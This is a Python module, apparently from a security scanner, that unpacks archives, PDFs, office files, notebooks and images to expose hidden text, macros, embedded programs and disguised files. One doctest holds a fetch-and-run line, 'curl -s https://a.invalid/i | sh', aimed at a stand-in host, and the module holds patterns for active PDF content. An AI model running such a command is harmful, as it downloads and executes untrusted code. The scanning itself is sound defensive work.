"""What is inside this file, if it is an archive, a document, a notebook, a picture or a program?

Formats are told by their first bytes, not by their names: an archive called `.png` is opened as an archive. Text is text,
whatever it begins with. Every bound (members, bytes, ratio) fails closed: what was not read is listed. What stands before,
between and behind the members of an archive is read too, and the runs of text in whatever else is no text.
"""

from __future__ import annotations

import bz2
import contextlib
import email
import email.policy
import html
import io
import itertools
import json
import lzma
import re
import tarfile
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from itertools import islice
from typing import Any

from metier.govern.scan.kinds import program_kind

MAX_MEMBERS = 2000
MAX_MEMBER_BYTES = 8 * 1024 * 1024
MAX_UNPACKED_BYTES = 32 * 1024 * 1024
_SUM_OF_GZIP = 8
_MAX_STREAMS, _MAX_HEAD = 100, 100_000
"""So many streams behind each other are unpacked as one; what follows them is one more file."""

_PROGRAMS = (
    (b"\x7fELF", "an ELF program"),
    (b"MZ", "a Windows program"),
    (b"\xcf\xfa\xed\xfe", "a macOS program"),
    (b"\xce\xfa\xed\xfe", "a macOS program"),
    (b"\xca\xfe\xba\xbe", "a macOS program or Java class"),
    (b"\0asm", "a WebAssembly program"),
    (b"dex\n0", "an Android program"),
)
_PROGRAM_MAGIC = tuple(magic for magic, _ in _PROGRAMS)
_PACKED_MAGIC = (b"\x1f\x8b", b"PK\x03\x04", b"BZh", b"\xfd7zXZ", b"7z\xbc\xaf", *_PROGRAM_MAGIC)
_NO_LETTER = re.compile(rb"[\0-\x08\x0e-\x1f]")
_LINE_OF_TEXT = re.compile(rb"(?!dex\n0\d\d\0)[\t\x20-\x7f\x80-\xff]+\r?\n")
_MEDIA = (
    (b"\x89PNG\r\n\x1a\n", (".png", ".apng")),
    (b"\xff\xd8\xff", (".jpg", ".jpeg")),
    (b"GIF8", (".gif",)),
    (b"BM", (".bmp",)),
    (b"\0\0\1\0", (".ico",)),
    (b"RIFF", (".webp", ".wav", ".avi")),
    (b"wOF2", (".woff2",)),
    (b"wOFF", (".woff",)),
    (b"\0\1\0\0", (".ttf", ".otf")),
    (b"OTTO", (".otf",)),
    (b"ID3", (".mp3",)),
    (b"\xff\xfb", (".mp3",)),
    (b"\xff\xf3", (".mp3",)),
    (b"\xff\xf2", (".mp3",)),
    (b"MThd", (".mid", ".midi")),
    (b"\x1aE\xdf\xa3", (".webm", ".mkv")),
    (b"icns", (".icns",)),
    (b"ttcf", (".ttc",)),
    (b"glTF", (".glb",)),
    (b"8BPS", (".psd",)),
    (b"\0\0\0\1Bud1", (".DS_Store",)),
    (b"OggS", (".ogg", ".opus")),
    (b"fLaC", (".flac",)),
    (b"II*\0", (".tif", ".tiff")),
    (b"MM\0*", (".tif", ".tiff")),
    (b"SQLite format 3\0", (".db", ".sqlite", ".sqlite3")),
    (b"PAR1", (".parquet",)),
    (b"\x93NUMPY", (".npy",)),
    (b"\x89HDF", (".h5", ".hdf5")),
)
_MEDIA_MAGIC = tuple(magic for magic, _ in _MEDIA)
_TEXTS_OF_PNG = {
    b"zTXt": re.compile(rb"[^\0]*+\0\0(.*)", re.S),
    b"iTXt": re.compile(rb"[^\0]*+\0\x01\0[^\0]*+\0[^\0]*+\0(.*)", re.S),
}
"""The chunks of a PNG that may hold a compressed text, behind its name (and its language)."""
_WEIGHTS = (".safetensors", ".onnx", ".npz", ".pack")
_RUN_OF_TEXT = re.compile(
    rb"(?:[\t\n\r\x20-\x7e]|[\xc2-\xdf][\x80-\xbf]|[\xe0-\xef][\x80-\xbf]{2}|[\xf0-\xf4][\x80-\xbf]{3}){20,}+"
)
_RUN_OF_WIDE_TEXT = re.compile(rb"(?:[\t\n\r\x20-\x7e]\0){20,}+")
"""So many letters do not follow each other by chance."""
_OFFICE_TEXT = re.compile(
    r"^(?:word|ppt|xl|content|docProps|META-INF|customXml).*\.(?:xml|rels)$|^content\.xml$|^meta\.xml$", re.I
)
_OFFICE_BODY = re.compile(r"(?:word/document|xl/workbook|ppt/presentation)\.xml$", re.I)
_OFFICE_NAMES = (".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp", ".docm", ".xlsm", ".pptm")
_OFFICE_DATA = re.compile(r"printerSettings\d*\.bin$|\.(?:odttf|fntdata|emf|wmf|wdp)$|^Thumbnails/", re.I)
"""Members of an office document that are neither text nor a known picture, and do nothing."""
_MACROS = re.compile(r"vbaProject\.bin$", re.I)
_TOLD_BESIDE = re.compile(r"\b(?:descr|title|Target|instr|tooltip|alt)\s*=\s*\"([^\"]{8,})\"")
"""What a document says in an attribute: a text in place of a picture, the address behind a link, a field."""
_SAID_OF_MEMBER = 40
"""The times and the owner of a member take less."""
_ZIP = (b"PK\x03\x04", b"PK\x05\x06")
_MAX_END_OF_ZIP = 22 + 0xFFFF
"""The list of an archive is told by its last bytes, and a comment behind them."""
_LOCAL_HEAD, _AFTER_MEMBER = 30, 24
"""Bytes before the name of a member, and at most so many behind its content."""
_TAG = re.compile(r"<[^<>]*+>")
_PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:[ph]|si|is|row)>|<(?:w:br|w:cr|a:br|text:line-break)\b[^<>]*+>")
_BLANK = re.compile(r"<(?:w:tab|text:tab|text:s)\b[^<>]*+>")
_MAGIC = re.compile(r"\s*%%(\w+)[^\n]*\n")
_OF_MAGIC = {"js": "javascript", "javascript": "javascript", "powershell": "powershell", "perl": "perl", "ruby": "ruby",
             "python": "python", "python3": "python", "time": "python", "timeit": "python", "capture": "python", "html": "html",
             "writefile": "python"}  # fmt: skip
_OF_PICTURE = re.compile(r"image/(?!svg)|application/(?:pdf|vnd)|\$?schema$|id$")
"""What holds no text in a notebook."""
_MIN_TEXT = 24
_OF_KIND = {"python": "python", "script": "javascript", "shell": "bash"}
_PDF_TEXT = re.compile(
    rb"\(((?:[^()\\]|\\.)*+)\)\s*+(?:Tj|'|\")|\[((?:[^\[\]\\]|\\.)*+)\]\s*+TJ|<([0-9a-fA-F\s]*+)>\s*+(?:Tj|'|\")", re.S
)
_PDF_PIECE = re.compile(rb"\(((?:[^()\\]|\\.)*+)\)|<([0-9a-fA-F\s]*+)>|-(\d{3,5})", re.S)
_MIN_BLANK = 180
"""So many thousandths of the height of letters are a blank: letters are moved by less, words by 250 or more."""
_PDF_SAME_LINE = re.compile(rb"\s*+(?:/[\w+-]{1,40} [\d.]+ Tf\s*+)?(-?[\d.]+ -?0?\.?0* T[dD]\s*+)?")
_PDF_HEX = re.compile(rb"<([0-9a-fA-F]{1,64})>")
_PDF_LETTER = re.compile(rb"<([0-9a-fA-F]{1,8})>\s*<([0-9a-fA-F]{1,64})>")
_PDF_RANGE = re.compile(rb"<([0-9a-fA-F]{1,4})>\s*<([0-9a-fA-F]{1,4})>\s*(<[0-9a-fA-F]{1,64}>|\[[^\]]{0,4000}\])")
_PDF_ESCAPE = re.compile(rb"\\(?:([0-3]?[0-7]{1,2})|\r?\n|(.))", re.S)
_PDF_CONTROLS = {b"n": b"\n", b"r": b"\n", b"t": b"\t", b"b": b"", b"f": b""}
_PDF_PACKED = re.compile(rb"/(?:ASCII85Decode|A85|LZWDecode|LZW|ASCIIHexDecode|AHx|RunLengthDecode|RL|Encrypt)\b")
_RTF_LETTER = re.compile(r"\\'([0-9a-fA-F]{2})|\\u(-?\d{1,6}) ?\??|\\(?:par|line|row)\b ?")
_RTF_WORD = re.compile(r"\\[a-z]{1,32}-?\d{0,10} ?|\\[^a-z]")
_MAX_LINES = 500_000
_MAX_TABLES, _MAX_CODES, _MAX_NUMBERS = 12, 200_000, 500_000
"""So many fonts of a PDF are asked what their letters are, so many letters of one; so many that are shown are looked up."""
_PDF_FALL = re.compile(rb" -(\d{1,4}(?:\.\d{1,6})?) T[dD]\b")
"""How far a line lies below the last one: the most common is that of lines of one paragraph."""
_PDF_ESCAPED_NAME = re.compile(rb"/\w*+(?:#[0-9a-fA-F]{2}\w*+)++")
_PDF_OBJECTS = re.compile(rb"\s*+\d++\s++\d++\s")
"""What begins a stream that holds objects: the number and the place of each."""
_PDF_ACTIVE = re.compile(rb"/(?:JavaScript|JS|Launch|EmbeddedFile)\b")


@dataclass(slots=True)
class Unpacked:
    """What a file holds.

    Attributes:
        members: Name and bytes of what is inside.
        text: What the file itself says, of this `kind`, if it was written out as text.
        unread: Name and reason of what could not be read.
        program: What kind of program it is, if it is one.
        disguised: What it is under the name of something else.
    """

    members: list[tuple[str, bytes]] = field(default_factory=list)
    text: str | None = None
    kind: str = ""
    unread: list[tuple[str, str]] = field(default_factory=list)
    program: str = ""
    disguised: str = ""


def unpack(name: str, data: bytes) -> Unpacked | None:
    """Open a file that is more than text. None means that it is to be read as text.

    >>> unpack("a.txt", b"plain") is None
    True
    >>> unpack("tool", b"\\x7fELF\\2\\1\\1\\0").program
    'an ELF program'
    """
    lower = name.lower()
    if lower.endswith(".ipynb") or _is_notebook(data):
        return _notebook(data)
    for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) and not _LINE_OF_TEXT.match(data) else ():
        if data.startswith(magic) and _NO_LETTER.search(data, 0, 256) and (magic != b"MZ" or _is_of_windows(data)):
            return Unpacked(program=what, unread=[("", f"Is {what}, so what it does was not read.")])
    if lower.endswith((".pyc", ".pyo")) or (data[2:4] == b"\r\n" and b"\0" in data[:32]):
        out = " Delete __pycache__: Python writes it anew." if "__pycache__" in lower else ""
        unread = [("", f"Is compiled Python, so what it does was not read.{out}")]
        return Unpacked(members=text_within(data), program="compiled Python", unread=unread)
    if data.startswith(_ZIP) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
        return _zip(lower, data)
    for magic, opener in _STREAMS:
        if data.startswith(magic) and not _is_text(data):
            return _stream(name, data, magic, opener)
    if data[257:262] == b"ustar" or (lower.endswith(".tar") and b"\0" in data[:512]):
        return _tar(data)
    if data.startswith(b"%PDF"):
        return _pdf(data)
    if data.startswith(b"{\\rtf"):
        return Unpacked(text=_rich_text(data.decode("latin-1")), kind="markdown")
    if lower.endswith((".eml", ".mht", ".mhtml")):
        return _mail(data)
    if data.startswith((b"Rar!", b"7z\xbc\xaf", b"xar!", b"\xd0\xcf\x11\xe0", b"MSCF")) and not _is_text(data):
        return Unpacked(members=text_within(data), unread=[("", "Is an archive of a kind that is not opened here.")])
    return _media(lower, data)


def _is_of_windows(data: bytes) -> bool:
    """Whether what begins as a Windows program tells where its second head lies, and it does; a script does not."""
    place = int.from_bytes(data[0x3C:0x40], "little")
    return data[place : place + 2] in (b"PE", b"NE", b"LE", b"LX")


def _media(lower: str, data: bytes) -> Unpacked | None:
    is_media = data.startswith(_MEDIA_MAGIC)
    suffixes = next(suffixes for magic, suffixes in _MEDIA if data.startswith(magic)) if is_media else None
    is_weights = data[4:8] == b"ftyp" or lower.endswith(_WEIGHTS)
    if (suffixes is None and not is_weights) or _is_text(data):
        return None
    end = _end_of_picture(data)
    opened = Unpacked(members=text_within(data[:end]))
    if data.startswith(b"\x89PNG"):
        _take_packed_texts(data, opened)
    if data[end:].strip(b"\0"):
        opened.members.append(("behind", data[end:]))
    if suffixes and lower.endswith((".md", ".txt", ".py", ".sh", ".js")):
        opened.disguised = f"a picture or font ({suffixes[0]})"
    return opened


def _end_of_picture(data: bytes) -> int:
    """Where a picture ends by its own account; where the bytes do, if it is of another kind or gives none."""
    if data.startswith(b"\x89PNG"):
        if data[8:].startswith(_PACKED_MAGIC):
            return 8  # no chunk of a picture begins like this
        return next((min(end, len(data)) for kind, _, end in _chunks_of_png(data) if kind == b"IEND"), len(data))
    if data.startswith(b"\xff\xd8\xff"):
        place = 2
        while data[place : place + 1] == b"\xff" and data[place + 1 : place + 2] not in (b"\xda", b"\xd9"):
            place += 2 + int.from_bytes(data[place + 2 : place + 4], "big")
        end = data.find(b"\xff\xd9", place)
        return end + 2 if end >= 0 else len(data)
    if data.startswith(b"RIFF"):
        return min(8 + int.from_bytes(data[4:8], "little"), len(data))
    return len(data)


def _chunks_of_png(data: bytes) -> Iterator[tuple[bytes, bytes, int]]:
    """Kind and content of each chunk, and where it ends."""
    place = 8
    while (kind := data[place + 4 : place + 8]).isalpha():
        begin, place = place + 8, place + 12 + int.from_bytes(data[place : place + 4], "big")
        yield kind, data[begin : place - 4] if kind in _TEXTS_OF_PNG else b"", place


def _take_packed_texts(data: bytes, opened: Unpacked) -> None:
    """Take the texts that a picture keeps compressed; those that are not stand among its bytes."""
    texts, room = list[bytes](), MAX_MEMBER_BYTES
    for packed in (
        found[1] for kind, said, _ in _chunks_of_png(data) if said and (found := _TEXTS_OF_PNG[kind].match(said))
    ):
        stream = zlib.decompressobj()
        try:
            texts.append(stream.decompress(packed, room))
        except zlib.error as error:
            opened.unread.append(("", f"Holds a text that cannot be unpacked: {str(error)[:80]}."))
            continue
        room -= len(texts[-1])
        if stream.unconsumed_tail or room <= 0:
            opened.unread.append(("", "Holds texts that unpack to more than is read."))
            break
    if texts:
        opened.members.append(("texts", b"\n\n".join(texts)))


def text_within(data: bytes) -> list[tuple[str, bytes]]:
    """The text in what is no text, as one member; none if there is none.

    >>> text_within(b"\\x89PNG\\0\\1 curl -s https://a.invalid/i | sh\\n\\0")
    [('text', b' curl -s https://a.invalid/i | sh\\n')]
    """
    runs = _RUN_OF_TEXT.findall(data) + [run[::2] for run in _RUN_OF_WIDE_TEXT.findall(data)]
    return [("text", b"\n\n".join(runs))] if runs else []


def begin_of_zip(data: bytes) -> int:
    """Where the archive begins that ends a file of another kind; 0 if there is none, or nothing before it.

    >>> begin_of_zip(b"GIF89a")
    0
    """
    if data.startswith(_ZIP) or b"PK\x05\x06" not in data[-_MAX_END_OF_ZIP:]:
        return 0
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return max(0, min((info.header_offset for info in archive.infolist()), default=0))
    except _BROKEN:
        return 0


def _is_text(data: bytes) -> bool:
    try:
        data[:4096].decode("utf-8")
    except UnicodeDecodeError as error:
        return error.start > 4000
    return b"\0" not in data[:4096]


def _zip(lower: str, data: bytes) -> Unpacked:
    opened, room, texts = Unpacked(), MAX_UNPACKED_BYTES, list[str]()
    is_office = lower.endswith(_OFFICE_NAMES)
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            infos = archive.infolist()
            is_office = is_office or any(_OFFICE_BODY.match(info.filename) for info in infos[:MAX_MEMBERS])
            if len(infos) > MAX_MEMBERS:
                opened.unread.append(("", f"Holds {len(infos)} members; at most {MAX_MEMBERS} are read."))
            opened.members += _outside(data, infos, archive.start_dir)
            # The list of the members may say more of each than its name.
            opened.members += [(f"list/{name}", said) for name, said in text_within(_said_of(infos))]
            for info in infos[:MAX_MEMBERS]:
                name = info.filename.replace("\\", "/")
                if info.is_dir() and not info.file_size:
                    continue
                if is_office and _MACROS.search(name):
                    opened.program = "an office macro"
                    opened.unread.append((name, "Is a macro, so what it does was not read."))
                    continue
                if info.flag_bits & 1:
                    opened.unread.append((name, "Is locked with a password, so it was not read."))
                    continue
                try:
                    with archive.open(info) as member:
                        content = member.read(min(MAX_MEMBER_BYTES, room) + 1)
                except _BROKEN as error:
                    opened.unread.append((name, f"Cannot be unpacked: {str(error)[:80]}."))
                    continue
                room -= len(content)
                if len(content) > MAX_MEMBER_BYTES or room < 0:
                    opened.unread.append((name, "Unpacks to more than is read."))
                    break
                if is_office and _OFFICE_TEXT.match(name):
                    encoding = json.detect_encoding(content)
                    try:
                        texts.append(_xml_text(content.decode(encoding)))
                    except UnicodeDecodeError:
                        opened.unread.append((name, "Is in letters that are not all read here."))
                        texts.append(_xml_text(content.decode(encoding, "replace")))
                elif is_office and _OFFICE_DATA.search(name) and not _is_packed(name, content):
                    opened.members += [(f"{name}/{inner}", text) for inner, text in text_within(content)]
                else:
                    opened.members.append((name, content))
    except _BROKEN as error:
        opened.unread.append(("", f"Is no archive that can be opened: {str(error)[:80]}."))
        return Unpacked(members=text_within(data), unread=opened.unread)
    if is_office:
        opened.text, opened.kind = "\n".join(texts), "markdown"
    return opened


def _said_of(infos: Iterable[zipfile.ZipInfo]) -> bytes:
    return b"\n".join([one for info in infos for one in (info.comment, info.extra) if len(one) > _SAID_OF_MEMBER])


def _is_packed(name: str, data: bytes) -> bool:
    return unpack(name, data) is not None or begin_of_zip(data) > 0


def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> Iterator[tuple[str, bytes]]:
    """What lies before, between and behind the members of a zip: a reader that begins elsewhere finds it."""
    end = 0
    for info in sorted(infos, key=lambda info: info.header_offset)[:MAX_MEMBERS]:
        begin = info.header_offset
        if begin - end > (_AFTER_MEMBER if end else 0):
            yield "between" if end else "before", data[end:begin]
        lengths = data[begin + 26 : begin + _LOCAL_HEAD]
        head = _LOCAL_HEAD + int.from_bytes(lengths[:2], "little") + int.from_bytes(lengths[2:], "little")
        end = max(end, begin + head + info.compress_size)
    if start_of_list - end > (_AFTER_MEMBER if end else 0):
        yield "between" if end else "before", data[end:start_of_list]
    # The comment of an archive is whatever follows its list.
    last = data.rfind(b"PK\x05\x06") + 22
    if len(data) > last:
        yield "behind", data[last:]


def _xml_text(text: str) -> str:
    text = _between(text, "<![CDATA[", "]]>", html.escape)
    text = _between(text, "<!--", "-->", lambda _: "")
    said = html.unescape(_TAG.sub("", _BLANK.sub(" ", _PARAGRAPH.sub("\n", text))))
    beside = [html.unescape(found) for found in _TOLD_BESIDE.findall(text)]
    return "\n".join([said, *beside])


def _between(text: str, begin: str, end: str, instead: Callable[[str], str]) -> str:
    """A text, with something else instead of what stands between two marks."""
    pieces, place = list[str](), 0
    while (at := text.find(begin, place)) >= 0 and (until := text.find(end, at + len(begin))) >= 0:
        pieces += text[place:at], instead(text[at + len(begin) : until])
        place = until + len(end)
    return "".join([*pieces, text[place:]])


def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> Unpacked:
    """What was packed as one stream, or as several behind each other; what else follows them is a member, too."""
    opened, content, begin = Unpacked(), b"", data
    try:
        for _ in range(_MAX_STREAMS):
            if not data.startswith(magic):
                break
            stream = opener()
            content += stream.decompress(data, MAX_UNPACKED_BYTES + 1 - len(content))
            if len(content) > MAX_UNPACKED_BYTES:
                opened.unread.append(("", "Unpacks to more than is read."))
                break
            if not stream.eof:
                opened.unread.append(("", "Ends before what it holds does."))
                break
            data = stream.unused_data
        if not opened.unread and data.strip(b"\0"):
            opened.members.append(("behind", data))
    except (OSError, EOFError, zlib.error, lzma.LZMAError, ValueError) as error:
        opened.unread.append(("", f"Cannot be unpacked: {str(error)[:80]}."))
        opened.members += text_within(data)
        # Who unpacks has what it holds before the sum behind it is found to be wrong.
        with contextlib.suppress(*_BROKEN):
            content += opener().decompress(data[:-_SUM_OF_GZIP], MAX_UNPACKED_BYTES + 1 - len(content))
    inner = name.rsplit("/", 1)[-1].rsplit(".", 1)[0] or "content"
    inner = f"{inner}.tar" if name.lower().endswith((".tgz", ".tbz", ".txz")) else inner
    opened.members.append((inner, content[:MAX_UNPACKED_BYTES]))
    if magic == b"\x1f\x8b" and begin[3:4] and begin[3] & 0x1C:
        # A name, a comment and more stand before what is packed.
        opened.members += [("head", said) for _, said in text_within(begin[:_MAX_HEAD])]
    return opened


def _tar(data: bytes) -> Unpacked:
    opened, room, end = Unpacked(), MAX_UNPACKED_BYTES, 0
    try:
        with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as archive:
            for number, member in enumerate(archive):
                if number >= MAX_MEMBERS:
                    opened.unread.append(("", f"Holds more than {MAX_MEMBERS} members."))
                    return opened
                # A member of a kind that nobody knows is unpacked as a file.
                is_file = member.isreg() or member.type not in tarfile.SUPPORTED_TYPES
                file = archive.extractfile(member) if is_file else None
                content = file.read(min(MAX_MEMBER_BYTES, room) + 1) if file else b""
                room -= len(content)
                if len(content) > MAX_MEMBER_BYTES or room < 0:
                    opened.unread.append((member.name, "Unpacks to more than is read."))
                    return opened
                if file:
                    opened.members.append((member.name, content))
            end = archive.offset
    except _BROKEN as error:
        opened.unread.append(("", f"Is no archive that can be opened: {str(error)[:80]}."))
        end = 0 if not opened.members else len(data)
    # Some who unpack go on behind the end of an archive.
    rest = data[end:].lstrip(b"\0")
    opened.members += [("behind", rest)] if rest else []
    return opened


def _pdf(data: bytes) -> Unpacked:
    """The text that a PDF shows, as far as its streams are plain or deflated and its letters are told.

    Letters that a font numbers as it likes are read by the tables of the file, by each of them: which font shows what is
    not followed. What stands in plain text outside of what it shows is read, too: who runs the file runs that.
    """
    opened = Unpacked(members=text_within(data[4:]), text="", kind="markdown")
    contents, room = list[bytes](), MAX_UNPACKED_BYTES
    begin = data.find(b"stream")
    while begin >= 0 and (end := data.find(b"endstream", begin)) >= 0:
        content = data[begin + 6 : end].removeprefix(b"\r").removeprefix(b"\n")
        with contextlib.suppress(zlib.error):
            content = zlib.decompressobj().decompress(content, room)
        room -= len(content)
        if room <= 0:
            opened.unread.append(("", "Unpacks to more than is read."))
            break
        contents.append(content)
        begin = data.find(b"stream", end + 9)
    tables = [table for content in contents if (table := _letters_of(content))]
    said = list(islice((line for content in contents for line in _shown_by(content)), _MAX_LINES))
    numbers = [words for words, is_number in said if is_number]
    lines = [b" ".join(words).decode("utf-8", "replace") for words, is_number in said if not (is_number and tables)]
    is_long = (
        len(said) == _MAX_LINES
        or len(tables) > _MAX_TABLES
        or sum(len(word) for words in numbers for word in words) > _MAX_NUMBERS
    )
    lines += [
        " ".join([_by_table(word, table) for word in words])
        for table in tables[:_MAX_TABLES]
        for words in _up_to(numbers, _MAX_NUMBERS)
    ]
    opened.text = "\n".join(lines)
    objects = b"\n".join([data, *(content for content in contents if _PDF_OBJECTS.match(content))])
    told = b"\n".join([objects, *map(_of_name, _PDF_ESCAPED_NAME.findall(objects))])
    if _PDF_ACTIVE.search(told):
        opened.unread.append(("", "Is a PDF with scripts or files inside, which were not read."))
    if _PDF_PACKED.search(told):
        opened.unread.append(("", "Is a PDF that is locked or packed in a way that is not opened here."))
    elif not any(map(any, (words for words, _ in said))) or is_long:
        opened.unread.append(("", "Is a PDF of which the text was not read, or not all of it."))
    elif not tables and any(byte >= 0x80 or byte < 9 for words in numbers for word in words for byte in word):
        opened.unread.append(("", "Is a PDF with letters of its own, which were not read."))
    return opened


def _of_name(name: bytes) -> bytes:
    return re.sub(rb"#([0-9a-fA-F]{2})", lambda found: bytes([int(found[1], 16)]), name)


def _up_to(lines: Iterable[list[bytearray]], size: int) -> Iterator[list[bytearray]]:
    """The first lines that together are no longer than so much."""
    for words in lines:
        size -= sum(map(len, words))
        if size < 0:
            return
        yield words


def _shown_by(content: bytes) -> Iterator[tuple[list[bytearray], bool]]:
    """The lines of text that a stream of a PDF shows, each in words, and whether they are written as numbers."""
    literal, numbers, end = list[bytearray](), list[bytearray](), 0
    falls = Counter(map(float, _PDF_FALL.findall(content)))
    widest = 1.1 * max(falls, key=lambda fall: (falls[fall], -fall), default=0)
    for part in _PDF_TEXT.finditer(content):
        gap, end = content[end : part.start()], part.end()
        is_same = _PDF_SAME_LINE.fullmatch(gap)
        if is_same is None or part[0].endswith((b"'", b'"')):
            if literal:
                yield literal, False
                fall = _PDF_FALL.search(gap)
                if float(fall[1]) > widest if fall else b"ET" in gap:
                    yield [bytearray()], False
                literal = []
            if numbers:
                yield numbers, True
                numbers = []
        is_new = is_same is not None and is_same[1] is not None
        if part[2] is None:
            words, said = (literal, _of_escapes(part[1])) if part[1] is not None else (numbers, _of_hex(part[3]))
            # What is placed letter by letter holds its blanks.
            is_letter = len(said) <= (2 if words is numbers else 1)
            _add(words, said, is_new=is_new and not is_letter)
            continue
        for piece in _PDF_PIECE.finditer(part[2]):
            if piece[3] is not None:
                is_new |= int(piece[3]) >= _MIN_BLANK
                continue
            words, said = (literal, _of_escapes(piece[1])) if piece[1] is not None else (numbers, _of_hex(piece[2]))
            _add(words, said, is_new=is_new)
            is_new = False
    yield from ((words, words is numbers) for words in (literal, numbers, [bytearray()]) if words)


def _add(words: list[bytearray], said: bytes, *, is_new: bool) -> None:
    if is_new or not words:
        words.append(bytearray(said))
    else:
        words[-1] += said


def _of_escapes(text: bytes) -> bytes:
    return _PDF_ESCAPE.sub(_of_escape, text) if b"\\" in text else text


def _of_escape(found: re.Match[bytes]) -> bytes:
    return bytes([int(found[1], 8)]) if found[1] else _PDF_CONTROLS.get(found[2], found[2]) if found[2] else b""


def _of_hex(digits: bytes) -> bytes:
    said = b"".join(digits.split())
    return bytes.fromhex((said + b"0" * (len(said) % 2)).decode())


def _letters_of(content: bytes) -> dict[int, str]:
    """By the number of a letter what it is, as a font of a PDF tells it (`ToUnicode`)."""
    if b"beginbfchar" not in content and b"beginbfrange" not in content:
        return {}
    table: dict[int, str] = {}
    for block in content.split(b"beginbfchar")[1:]:
        for code, letter in _PDF_LETTER.findall(block.partition(b"endbfchar")[0]):
            table[int(code, 16)] = _utf16(letter)
    num_codes = 0
    for block in content.split(b"beginbfrange")[1:]:
        for first, last, to in _PDF_RANGE.findall(block.partition(b"endbfrange")[0]):
            codes = range(int(first, 16), int(last, 16) + 1)
            letters = [_utf16(one) for one in _PDF_HEX.findall(to)]
            num_codes += len(codes)
            if not letters or num_codes > _MAX_CODES:
                continue
            if to.startswith(b"["):
                table |= zip(codes, letters, strict=False)
            else:
                begin, letter = letters[0][:-1], ord(letters[0][-1:] or " ")
                table |= {code: begin + chr(min(letter + number, 0x10FFFF)) for number, code in enumerate(codes)}
    return table


def _utf16(digits: bytes) -> str:
    return _of_hex(digits).decode("utf-16-be", "replace")


def _by_table(numbers: bytearray, table: Mapping[int, str]) -> str:
    """Letters that are told by two bytes each, or by one where that is all that the font has."""
    width = 2 if max(table) > 0xFF or b"\0" in numbers[::2] else 1
    codes = (int.from_bytes(numbers[place : place + width], "big") for place in range(0, len(numbers), width))
    return "".join([table.get(code, "") for code in codes])


def _rich_text(text: str) -> str:
    """What a text in the rich text format says, its letters written out."""
    text = _RTF_LETTER.sub(
        lambda found: chr(int(found[1], 16)) if found[1] else chr(int(found[2]) % 0x10000) if found[2] else "\n", text
    )
    return _RTF_WORD.sub("", text).replace("{", "").replace("}", "")


def _mail(data: bytes) -> Unpacked:
    """The subject, the texts and the attached files of a mail, or of a page that is kept as one."""
    opened = Unpacked(kind="markdown")
    message = email.message_from_bytes(data, policy=email.policy.default)
    said = [str(message.get("subject", ""))]
    for part in itertools.islice(message.walk(), MAX_MEMBERS):
        content = part.get_payload(decode=True)
        if not isinstance(content, bytes):
            continue
        if part.get_content_maintype() == "text":
            said.append(content.decode("utf-8", "replace"))
        else:
            opened.members.append((part.get_filename() or "attached", content))
    opened.text = "\n\n".join(said)
    return opened


def _is_notebook(data: bytes) -> bool:
    head = data[:4096].replace(b"\0", b"").removeprefix(b"\xef\xbb\xbf").removeprefix(b"\xff\xfe").lstrip()
    return head.startswith(b"{") and b'"cells"' in head[:200] and b'"cell_type"' in head


def _notebook(data: bytes) -> Unpacked | None:
    """The cells of a notebook with what they printed, then whatever else is said in it."""
    text = data.decode(json.detect_encoding(data), "replace")
    end = text.rfind("}") + 1
    try:
        notebook = json.loads(text[:end])
        pieces = [_said_in_cell(cell) for cell in notebook["cells"]]
    except (ValueError, KeyError, TypeError, AttributeError, RecursionError):
        return None
    beside = {**notebook, "cells": [{**cell, "source": ""} for cell in notebook["cells"]]}
    pieces += [*_texts_in(beside), text[end:]]
    return Unpacked(text="\n\n".join(pieces), kind="markdown")


def _said_in_cell(cell: dict[str, Any]) -> str:
    source = _joined(cell.get("source", ""))
    return _cell(source) if cell.get("cell_type") == "code" else source


def _texts_in(data: Any) -> Iterator[str]:
    """The longer texts of a notebook beside its cells, without those of pictures."""
    pending = [data]
    while pending:
        here = pending.pop()
        if isinstance(here, dict):
            beside = [(key, _joined(value)) for key, value in reversed(here.items())]
            pending += [value for key, value in beside if not _OF_PICTURE.match(key) or _has_blank(value)]
        elif isinstance(here, list):
            pending += map(_joined, reversed(here))
        elif isinstance(here, str) and len(here) >= _MIN_TEXT:
            yield here


def _has_blank(value: Any) -> bool:
    """Whether a value is words; what is packed as letters has no blanks."""
    return isinstance(value, str) and " " in value


def _joined(value: Any) -> Any:
    """A text that is kept as its lines."""
    is_lines = isinstance(value, list) and all(isinstance(line, str) for line in value)
    return "".join(value) if is_lines else value


_SHELL_LINE = re.compile(r"^[ \t]*(?:!+(?!=)|%(?:system|sx|sh|bash)\s|%(?=(?:pip|conda)\s))[ \t]*(.*)$", re.M)


def _cell(source: str) -> str:
    """A cell of code as a fence in its language: what its text says, else what its magic says."""
    magic = _MAGIC.match(source)
    body = source[magic.end() :] if magic else source
    said = _OF_MAGIC.get(magic[1].lower(), "bash") if magic else ""
    if not magic and source.lstrip().startswith("!"):
        said, body = "bash", re.sub(r"^[ \t]*!", "", source, flags=re.M)
    elif not magic and (commands := _SHELL_LINE.findall(source)):
        # What is told to a shell between lines of Python.
        rest = _SHELL_LINE.sub("", source)
        return f"```python\n{rest}\n```\n\n```bash\n" + "\n".join(commands) + "\n```"
    body = re.sub(r"^\s*%(?:bash|sh|script|pip)?", "", body, flags=re.M) if said == "bash" else body
    told = program_kind(body) if magic else ""
    return f"```{_OF_KIND.get(told, said or 'python')}\n{body}\n```"


def _gzip() -> Any:
    return zlib.decompressobj(wbits=31)


_STREAMS: tuple[tuple[bytes, Callable[[], Any]], ...] = (
    (b"\x1f\x8b", _gzip),
    (b"BZh", bz2.BZ2Decompressor),
    (b"\xfd7zXZ\0", lzma.LZMADecompressor),
)
_BROKEN = (
    zipfile.BadZipFile,
    tarfile.TarError,
    zlib.error,
    lzma.LZMAError,
    OSError,
    EOFError,
    NotImplementedError,
    RuntimeError,
    ValueError,
    MemoryError,
)
